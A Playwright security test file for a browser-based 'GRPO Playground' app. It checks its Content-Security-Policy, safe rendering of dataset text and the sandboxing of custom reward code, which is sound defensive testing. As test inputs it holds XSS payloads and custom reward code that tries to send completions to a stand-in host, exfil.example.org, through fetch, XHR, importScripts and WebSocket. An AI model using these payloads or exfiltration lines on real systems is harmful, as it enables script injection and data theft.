// Security of the built app: it ships a Content-Security-Policy (no remote, inline or eval'd script on the
// page; network only to its own origin and the https model URLs a person asks for); dataset text and file
// names render as text; a custom reward that tries the network or loading code gets a clear error and no
// request leaves the page; a short training run with stories260K makes no request beyond the page's origin.
import { expect, test, type Page, type Request } from '@playwright/test';
import { collectErrors, loadStories, openPlayground, setSetting, STORY_ROWS, uploadDataset } from './helpers/playground';

/** Every request the page and its workers make (dedicated workers' requests are reported on the page). */
function recordRequests(page: Page): Request[] {
  const seen: Request[] = [];
  page.on('request', (r) => seen.push(r));
  page.context().on('request', (r) => {
    if (!seen.includes(r)) seen.push(r);
  });
  return seen;
}

function foreign(requests: Request[], origin: string): string[] {
  return requests.map((r) => r.url()).filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u));
}

/** Records Content-Security-Policy violations in the page from its first script on. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}
const violations = (page: Page) => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp.slice());

function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  );
}

test('the built app ships a Content-Security-Policy that refuses remote, inline and eval\'d script', async ({ page, baseURL }) => {
  await recordViolations(page);
  const response = await page.goto('/?autoload=0');
  const html = await response!.text();
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toBeTruthy();
  expect(html).toContain('http-equiv="Content-Security-Policy"');
  // the policy comes before any script, so that it covers them all
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
  const csp = directives(meta!);
  expect(csp.get('default-src')).toEqual(["'self'"]);
  expect(csp.get('script-src')).toEqual(["'self'"]);
  expect(csp.get('worker-src')).toEqual(["'self'"]);
  expect(csp.get('connect-src')).toEqual(["'self'", 'https:', 'http://localhost:*', 'http://127.0.0.1:*']);
  expect(csp.get('object-src')).toEqual(["'none'"]);
  expect(meta).not.toContain('unsafe-eval');
  await expect(page.getByRole('heading', { level: 1, name: 'GRPO Playground' })).toBeVisible();

  // the page itself cannot turn a string into code (a string timer is compiled by the page, not by the
  // test's evaluate, which DevTools lets through)
  expect(
    await page.evaluate(
      () =>
        new Promise<unknown>((resolve) => {
          const w = window as unknown as { __ran?: number };
          (setTimeout as (code: string, ms: number) => number)('window.__ran = 1', 0);
          setTimeout(() => resolve(w.__ran), 100);
        }),
    ),
  ).toBeUndefined();
  expect(await violations(page)).toContain('script-src eval');
  // a remote script and an inline script injected into the page are refused and never run
  const blocked = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => {
          seen.push(`${e.violatedDirective} ${e.blockedURI}`);
          if (seen.length === 2) resolve(seen);
        });
        const remote = document.createElement('script');
        remote.src = 'https://cdn.example.org/evil.js';
        document.head.append(remote);
        const inline = document.createElement('script');
        inline.textContent = 'window.__inline = 1';
        document.head.append(inline);
      }),
  );
  expect(blocked.some((v) => /^script-src(-elem)? https:\/\/cdn\.example\.org\/evil\.js$/.test(v))).toBe(true);
  expect(blocked.some((v) => /^script-src(-elem)? inline$/.test(v))).toBe(true);
  expect(await page.evaluate(() => (window as unknown as { __inline?: number }).__inline)).toBeUndefined();
  // nothing else in the app tripped the policy (only the three refusals above)
  expect((await violations(page)).filter((v) => !/evil\.js|inline|eval/.test(v))).toEqual([]);
  expect(baseURL).toBeTruthy();
});

test('HTML in dataset text and file names renders as text', async ({ page }) => {
  const errors = collectErrors(page);
  await openPlayground(page, '?autoload=0');
  const rows = [
    { prompt: '<img src=x onerror="window.__xss=1">', answer: '<script>window.__xss=2</script>', note: '<iframe src="javascript:window.__xss=4"></iframe>' },
    { prompt: '<a href="javascript:window.__xss=5">click</a>', answer: '"><svg onload="window.__xss=3">', note: '{{7*7}} ${7*7}' },
  ];
  const name = '<img src=x onerror=window.__xss=9>.jsonl';
  await uploadDataset(page, name, rows.map((r) => JSON.stringify(r)).join('\n'));
  await expect(page.getByTestId('dataset-status')).toHaveAttribute('data-state', 'ready');
  const preview = page.getByTestId('dataset-preview');
  await expect(preview).toContainText('<img src=x onerror="window.__xss=1">');
  await expect(preview).toContainText('<script>window.__xss=2</script>');
  await expect(preview).toContainText('<iframe src="javascript:window.__xss=4"></iframe>');
  await expect(preview).toContainText('{{7*7}} ${7*7}');
  await expect(page.getByTestId('dataset-drop')).toContainText(name);
  await expect(page.locator('#root').locator('img, script, svg[onload], iframe, a[href^="javascript:"]')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(errors.filter((e) => !/tiny-puzzles|models\/|datasets\//.test(e))).toEqual([]);
});

test('a custom reward that tries the network or loading code gets a clear error, and no request leaves the page', async ({ page, baseURL }) => {
  const errors = collectErrors(page);
  await recordViolations(page);
  const requests = recordRequests(page);
  await openPlayground(page, '?autoload=0');
  const kinds = ['fetch', 'xhr', 'importScripts', 'prototype fetch', 'websocket'];
  await uploadDataset(page, 'net.jsonl', kinds.map((kind, i) => JSON.stringify({ prompt: `p${i}`, answer: `a${i}`, kind })).join('\n'));
  await page.locator('#add-reward').selectOption('custom');
  await page.getByRole('button', { name: 'Add reward' }).click();
  const source = [
    '(prompt, completion, answer, row) => {',
    '  const url = "https://exfil.example.org/" + encodeURIComponent(completion);',
    '  if (row.kind === "fetch") return fetch(url).then(() => 1);',
    '  if (row.kind === "xhr") { const x = new XMLHttpRequest(); x.open("GET", url); x.send(); return 1; }',
    '  if (row.kind === "importScripts") { importScripts(url); return 1; }',
    '  if (row.kind === "prototype fetch") return WorkerGlobalScope.prototype.fetch.call(self, url).then(() => 1);',
    '  if (row.kind === "websocket") { new WebSocket("wss://exfil.example.org/"); return 1; }',
    '  return 0;',
    '}',
  ].join('\n');
  await page.getByTestId('custom-source').fill(source);
  await page.getByRole('button', { name: 'Try on 5 rows' }).click();
  const results = page.getByTestId('custom-try-results').locator('tbody tr');
  await expect(results).toHaveCount(5);
  await expect(results.nth(0)).toContainText('fetch is blocked in the custom reward sandbox: a reward function has no network access');
  await expect(results.nth(1)).toContainText('XMLHttpRequest is blocked in the custom reward sandbox: a reward function has no network access');
  await expect(results.nth(2)).toContainText('importScripts is blocked in the custom reward sandbox: a reward function cannot load other code');
  await expect(results.nth(3)).toContainText('fetch is blocked in the custom reward sandbox');
  await expect(results.nth(4)).toContainText('WebSocket is blocked in the custom reward sandbox');
  await page.getByTestId('rewards-panel').screenshot({ path: 'test-results/security-custom-reward.png' });

  // a syntax error is found by the parser (the page compiles nothing) and shown at the editor
  await page.getByTestId('custom-source').fill('(prompt) => {');
  await expect(page.getByTestId('custom-source-problem')).toContainText('does not compile: SyntaxError');
  expect(foreign(requests, baseURL!)).toEqual([]);
  expect(await violations(page)).toEqual([]);
  expect(errors.filter((e) => !/tiny-puzzles|models\/|datasets\//.test(e))).toEqual([]);
});

test('a short training run with stories260K makes no request beyond the page\'s origin', async ({ page, baseURL }) => {
  const errors = collectErrors(page);
  await recordViolations(page);
  const requests = recordRequests(page);
  await openPlayground(page);
  await loadStories(page);
  await uploadDataset(page, 'stories.jsonl', STORY_ROWS);
  await page.locator('[data-testid=reward-card] select').first().selectOption('contains');
  // a custom reward that tries to send every completion away, inside the engine worker's sandbox
  await page.locator('#add-reward').selectOption('custom');
  await page.getByRole('button', { name: 'Add reward' }).click();
  await page.getByTestId('custom-source').fill('(p, completion) => { try { fetch("https://exfil.example.org/?c=" + encodeURIComponent(completion)); } catch (e) {} return completion.length > 3 ? 1 : 0; }');
  await setSetting(page, 'max_steps', '2');
  await setSetting(page, 'num_generations', '4');
  await setSetting(page, 'max_completion_length', '8');
  await setSetting(page, 'lora_r', '4');
  await setSetting(page, 'lora_alpha', '8');
  await setSetting(page, 'eval_split', '0');
  await page.getByRole('button', { name: 'Start', exact: true }).click();
  await expect(page.getByTestId('run-status')).toHaveText('Finished', { timeout: 180_000 });
  await expect(page.getByTestId('run-step')).toHaveText('2');

  const urls = requests.map((r) => r.url());
  expect(urls.some((u) => /\/sandbox_frame\.html$/.test(u))).toBe(true); // the custom reward ran in its sandbox frame (opened by the page for the engine worker)
  expect(foreign(requests, baseURL!)).toEqual([]);
  expect(await violations(page)).toEqual([]);
  expect(errors.filter((e) => !/tiny-puzzles|models\/|datasets\//.test(e))).toEqual([]);
});
